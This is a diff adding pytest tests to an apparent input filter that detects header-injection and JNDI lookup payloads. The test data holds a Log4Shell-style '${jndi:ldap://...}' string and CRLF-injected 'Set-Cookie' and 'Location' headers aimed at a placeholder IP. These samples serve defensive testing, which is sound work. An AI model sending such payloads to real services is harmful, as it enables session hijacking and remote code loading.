@@ -179,3 +179,15 @@ def test_fields_declared_as_code_are_not_demoted_further() -> None:
         {"content": PADDING + " ${jndi:ldap://203.0.113.7/a}"}, {("json", "$.content"): "code"}
     )
     assert verdict.blocked
+
+
+@pytest.mark.parametrize("kind", [None, "prose", "code"])
+def test_header_injection_after_prose_is_refused(kind: str | None) -> None:
+    body = {"content": PADDING + " and then\r\nSet-Cookie: session=attacker"}
+    verdict = post(body, {("json", "$.content"): kind} if kind else None)
+    assert verdict.blocked, verdict.findings
+
+
+def test_windows_line_ends_in_prose_are_not_a_breakout() -> None:
+    assert not breaks_out("First paragraph of the note.\r\n\r\nSecond paragraph, no header.")
+    assert breaks_out("note\r\nLocation: http://203.0.113.7/")
